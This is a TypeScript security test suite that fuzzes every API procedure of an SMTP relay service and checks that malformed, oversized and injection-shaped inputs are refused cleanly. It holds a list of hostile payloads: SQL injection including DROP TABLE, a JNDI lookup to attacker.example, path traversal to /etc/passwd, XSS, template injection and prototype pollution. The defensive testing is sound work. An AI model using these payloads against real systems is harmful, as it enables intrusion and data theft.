import { DomainError } from "@relaypost/core";
import { TRPCError } from "@trpc/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ZodError, type ZodType } from "zod";
import { procedurePaths } from "./procedures.test-support";
import { appRouter } from "./root";
import { type ApiHarness, type Caller, createApiHarness, type TestOrganization } from "./testing";

/**
 * Every procedure, fed oversized, wrongly typed and injection-shaped input. Whatever its schema refuses must come
 * back as a clean BAD_REQUEST; whatever its schema lets through must reach the database and come back as an answer
 * or a domain code — never INTERNAL_SERVER_ERROR.
 */
const procedures = appRouter._def.procedures as unknown as Record<
  string,
  { _def: { inputs: ZodType[]; type: "query" | "mutation" | "subscription" } }
>;

const HUGE = "x".repeat(200_000);
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE smtp_credentials; --",
  "admin'--",
  "%",
  "_%_",
  "\\",
  "\0",
  "nul\0inside",
  ["$", "{jndi:ldap://attacker.example/a}"].join(""),
  "{{7*7}}",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "\u202eevil\u202c",
  "🙂".repeat(40),
  "\ud800",
  " ",
  "999999999999999999",
  "-1",
  "00000000-0000-0000-0000-000000000000",
  "00000000-0000-0000-0000-00000000000G",
];
const WRONG_TYPES: unknown[] = [
  null,
  42,
  -1,
  1.5,
  1e308,
  Number.NaN,
  true,
  [],
  ["a", "b"],
  {},
  { $gt: "" },
  { toString: "x" },
  HUGE,
  new Date(0),
];
/** Whole inputs that are not the object a procedure expects. */
const WRONG_WHOLE_INPUTS: unknown[] = [undefined, null, "input", 7, [], [{}], HUGE, { ["__proto__"]: { admin: true } }];

function procedureFn(caller: Caller, path: string): (input: unknown) => Promise<unknown> {
  let node: unknown = caller;
  for (const part of path.split(".")) node = (node as Record<string, unknown>)[part];
  if (typeof node !== "function") throw new Error(`no procedure at ${path}`);
  return node as (input: unknown) => Promise<unknown>;
}

async function outcomeOf(call: () => Promise<unknown>): Promise<string> {
  try {
    await call();
    return "OK";
  } catch (error) {
    if (error instanceof TRPCError) return error.code;
    throw error;
  }
}

function schemaAccepts(path: string, input: unknown): boolean {
  const [schema] = procedures[path]?._def.inputs ?? [];
  return schema ? schema.safeParse(input).success : true;
}

describe("hostile input to every tRPC procedure", () => {
  let h: ApiHarness;
  let org: TestOrganization;
  const valid: Record<string, Record<string, unknown>> = {};
  const answered: Array<{ path: string; input: string; code: string }> = [];

  let owner: Caller;
  /** A user of its own for the account procedures, which may change its password or end all its sessions. */
  let accountUser: { id: string; sessionToken: string };
  /** The owner's caller; signing out gets a fresh session each time, so it spoils nothing for the others. */
  async function callerFor(path: string): Promise<Caller> {
    if (path === "auth.signIn" || path === "auth.signUp") return h.anonymous();
    const userId = path.startsWith("account.") ? accountUser.id : org.owner.id;
    if (path !== "auth.signOut" && userId === org.owner.id) return owner;
    const { token } = await h.core.sessions.create(userId);
    return h.asSession(token, org.id);
  }

  async function attempt(path: string, input: unknown) {
    const accepted = schemaAccepts(path, input);
    // A subscription that is accepted would stream forever; its refusals are what this test can check here.
    if (procedures[path]?._def.type === "subscription" && accepted) return;
    const caller = await callerFor(path);
    const code = await outcomeOf(async () => {
      const result = await procedureFn(caller, path)(input);
      if (result && typeof result === "object" && Symbol.asyncIterator in result) {
        await (result as AsyncIterable<unknown>)[Symbol.asyncIterator]().next();
      }
    });
    const shown = JSON.stringify(input)?.slice(0, 60) ?? String(input);
    answered.push({ path, input: shown, code });
    if (!accepted) expect({ path, input: shown, code }).toEqual({ path, input: shown, code: "BAD_REQUEST" });
  }

  beforeAll(async () => {
    h = await createApiHarness();
    org = await h.createOrganization();
    owner = await h.asSession(org.owner.sessionToken, org.id);
    const { credential } = await owner.smtpCredentials.create({ username: "hostile_target" });
    const { apiKey } = await h.createApiKey(org.id);
    const member = await h.addMember(org.id, "viewer");
    const invitation = await owner.members.invite({ role: "viewer" });
    const invitationId = (await owner.members.invitations())[0]?.id ?? "";
    const ids = { id: credential.id };
    const { endpoint: webhook } = await owner.webhooks.create({ url: "https://93.184.215.14/hooks" });
    accountUser = await h.addMember(org.id, "viewer");
    const accountSession = await h.core.sessions.resolve(accountUser.sessionToken);
    Object.assign(valid, {
      "account.changePassword": { currentPassword: "member-password-1", newPassword: "another-password-1" },
      "account.endSession": { id: accountSession?.sessionId },
      "apiKeys.list": {},
      "apiKeys.create": { name: "key", role: "viewer" },
      "apiKeys.revoke": { id: apiKey.id },
      "auditLog.list": {
        actor: `user:${org.owner.id}`,
        actions: ["credential.created"],
        target: "hostile",
        since: new Date(0),
        until: new Date(),
        limit: 10,
      },
      "auth.signIn": { email: "someone@example.com", password: "some-password-1" },
      "auth.signUp": { email: "new@example.com", password: "new-password-12", organizationName: "New" },
      "events.list": { after: 0, limit: 10, types: ["auth.rejected"] },
      "events.recent": { limit: 10, types: ["auth.rejected"] },
      "events.subscribe": { types: ["auth.rejected"] },
      "members.acceptInvitation": { token: invitation.token },
      "members.invite": { role: "viewer" },
      "members.previewInvitation": { token: invitation.token },
      "members.remove": { userId: member.id },
      "members.revokeInvitation": { id: invitationId },
      "members.setRole": { userId: member.id, role: "viewer" },
      "messages.source": ids,
      "messages.list": {
        credentialId: credential.id,
        status: "relayed",
        recipient: "a@example.org",
        since: new Date(0),
        until: new Date(),
        limit: 10,
      },
      "organizations.create": { name: "Another" },
      "organizations.rename": { name: "Renamed" },
      "smtpCredentials.create": { description: "d" },
      "smtpCredentials.delete": ids,
      "smtpCredentials.endPreviousPassword": ids,
      "smtpCredentials.get": ids,
      "smtpCredentials.loginActivity": ids,
      "smtpCredentials.list": { search: "hostile" },
      "smtpCredentials.regeneratePassword": ids,
      "smtpCredentials.setActive": { ...ids, active: true },
      "smtpCredentials.activate": ids,
      "smtpCredentials.deactivate": ids,
      "smtpCredentials.update": { ...ids, description: "d" },
      "smtpLoginBlocks.lift": { address: "192.0.2.1" },
      "smtpLoginBlocks.list": {},
      "webhooks.create": { url: "https://93.184.215.14/hooks", description: "d", eventTypes: ["auth.rejected"] },
      "webhooks.update": { id: webhook.id, url: "https://93.184.215.14/other", description: "d" },
      "webhooks.enable": { id: webhook.id },
      "webhooks.disable": { id: webhook.id },
      "webhooks.rotateSecret": { id: webhook.id, keepPreviousHours: 1 },
      "webhooks.delete": { id: webhook.id },
      "webhooks.deliveries": { endpointId: webhook.id, status: "failed", limit: 10 },
      "webhooks.list": {},
      // Loopback port 1 refuses at once, so the test connections that follow never wait on a network.
      "upstream.set": { host: "127.0.0.1", port: 1, tls: "starttls", tlsVerify: true, username: "u", password: "p" },
    });
  });
  afterAll(() => h.destroy());

  for (const path of procedurePaths()) {
    it(`${path} answers wrong, oversized and injection-shaped input cleanly`, async () => {
      const base = valid[path] ?? {};
      for (const input of WRONG_WHOLE_INPUTS) await attempt(path, input);
      for (const key of Object.keys(base)) {
        for (const value of [...WRONG_TYPES, ...INJECTIONS, `${INJECTIONS[1]}${HUGE}`]) {
          await attempt(path, { ...base, [key]: value });
        }
      }
      const mine = answered.filter((a) => a.path === path);
      expect(mine.length).toBeGreaterThan(0);
      expect(mine.filter((a) => a.code === "INTERNAL_SERVER_ERROR")).toEqual([]);
    });
  }

  it("covers every procedure that takes input with a valid base to corrupt", () => {
    const takingInput = procedurePaths().filter((path) => (procedures[path]?._def.inputs.length ?? 0) > 0);
    expect(takingInput.filter((path) => !valid[path])).toEqual([]);
  });

  it("leaves the database intact after the injection attempts", async () => {
    const owner = await h.asSession(org.owner.sessionToken, org.id);
    const listed = await owner.smtpCredentials.list({ search: "" });
    expect(listed.items.length).toBeGreaterThan(0);
    expect((await owner.organizations.current()).id).toBe(org.id);
  });

  it("stores descriptions with HTML and script verbatim, and returns them as text", async () => {
    const owner = await h.asSession(org.owner.sessionToken, org.id);
    const description = `<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes" 'single' </textarea>`;
    const { credential } = await owner.smtpCredentials.create({ username: "html_desc", description });
    expect(credential.description).toBe(description);
    expect((await owner.smtpCredentials.get({ id: credential.id })).description).toBe(description);
    const found = await owner.smtpCredentials.list({ search: "html_desc" });
    expect(found.items.map((c) => c.description)).toEqual([description]);
  });
});

const encodeCursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
const SOME_TIME = "2024-05-01T10:00:00.000Z";
const SOME_ID = "3f2b8c1e-6d4a-4f7e-9b2c-1a5d8e7f6c3b";

/**
 * Forged list cursors: well-formed enough to pass a loose check and reach SQL (a non-UUID id of UUID length, dates
 * JavaScript accepts and PostgreSQL does not), plus plain garbage. Each must be refused as BAD_REQUEST on `cursor`.
 */
const KEYSET_CURSORS: unknown[] = [
  encodeCursor([SOME_TIME, "------------------------------------"]),
  encodeCursor([SOME_TIME, "0000000000000000000000000000000000-0"]),
  encodeCursor([SOME_TIME, "3f2b8c1e6d4a4f7e9b2c1a5d8e7f6c3b----"]),
  encodeCursor([SOME_TIME, "' OR '1'='1"]),
  encodeCursor(["+275760-09-13T00:00:00.000Z", SOME_ID]),
  encodeCursor(["-271821-04-20T00:00:00.000Z", SOME_ID]),
  encodeCursor(["0000-01-01T00:00:00.000Z", SOME_ID]),
  encodeCursor(["+010000-01-01T00:00:00.000Z", SOME_ID]),
  encodeCursor([8.64e15, SOME_ID]),
  encodeCursor([0, SOME_ID]),
  encodeCursor(["yesterday", SOME_ID]),
  encodeCursor([SOME_TIME]),
  encodeCursor([SOME_TIME, SOME_ID, "extra"]),
  encodeCursor({ at: SOME_TIME, id: SOME_ID }),
  encodeCursor(null),
  encodeCursor("cursor"),
  "not a cursor!",
  "%E0%A4%A",
  "A".repeat(200),
  "A".repeat(201),
  42,
  { at: SOME_TIME, id: SOME_ID },
];

const HOSTILE_CURSORS: Record<string, unknown[]> = {
  "smtpCredentials.list": KEYSET_CURSORS,
  "messages.list": KEYSET_CURSORS,
  "auditLog.list": [0, -1, 1.5, 2 ** 53, Number.MAX_VALUE, Number.NaN, "1", "9223372036854775808", [1], {}],
};

describe("hostile list cursors and session cookies", () => {
  let h: ApiHarness;
  let owner: Caller;
  beforeAll(async () => {
    h = await createApiHarness();
    const org = await h.createOrganization();
    owner = await h.asSession(org.owner.sessionToken, org.id);
    await owner.smtpCredentials.create({ username: "cursor_target" });
  });
  afterAll(() => h.destroy());

  for (const [path, cursors] of Object.entries(HOSTILE_CURSORS)) {
    it(`${path} refuses every forged cursor as BAD_REQUEST on the cursor field`, async () => {
      const outcomes = [];
      for (const cursor of cursors) {
        let outcome = "OK";
        try {
          await procedureFn(owner, path)({ cursor });
        } catch (error) {
          if (!(error instanceof TRPCError)) throw error;
          const onField =
            (error.cause instanceof ZodError && error.cause.issues.some((i) => i.path[0] === "cursor")) ||
            (error.cause instanceof DomainError && error.cause.field === "cursor");
          outcome = `${error.code}${onField ? " on cursor" : ""}`;
        }
        outcomes.push({ cursor: String(cursor).slice(0, 60), outcome });
      }
      expect(outcomes).toEqual(
        cursors.map((cursor) => ({ cursor: String(cursor).slice(0, 60), outcome: "BAD_REQUEST on cursor" })),
      );
    });
  }

  it("reads a session cookie that is not valid percent-encoding as signed out", async () => {
    for (const cookie of ["relaypost_session=%E0%A4%A", "relaypost_session=%", "relaypost_session=%FF"]) {
      const caller = await h.callerFor({ cookie });
      expect({ cookie, me: await caller.auth.me() }).toEqual({ cookie, me: null });
    }
  });
});
